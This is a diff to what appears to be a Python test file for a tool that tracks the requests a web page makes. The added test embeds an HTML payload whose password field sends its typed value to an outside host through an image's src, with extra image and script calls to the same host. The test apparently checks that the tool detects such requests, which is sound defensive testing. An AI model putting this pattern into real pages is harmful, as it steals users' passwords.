@@ -229,3 +229,8 @@ def test_words_of_the_mail_are_typed(field, use):
     made = play(page, Stage(1.0, cpu), ("4821", "other"))
     assert made is not None and PROGRAM in {act.octets for act in made.of("file")}
     assert not on_stage(page).of("file")
+
+
+def test_pictures_that_carry_away_what_was_typed():
+    page = f"<img id=i src='{TO}'><input type=password onchange=\"i.src='{TO}?'+this.value\"><script>new Image().src='{TO}'</script>"
+    assert [(act.phase, act.detail.partition("?")[0]) for act in on_stage(page).of("asks")] == [("click", TO)]
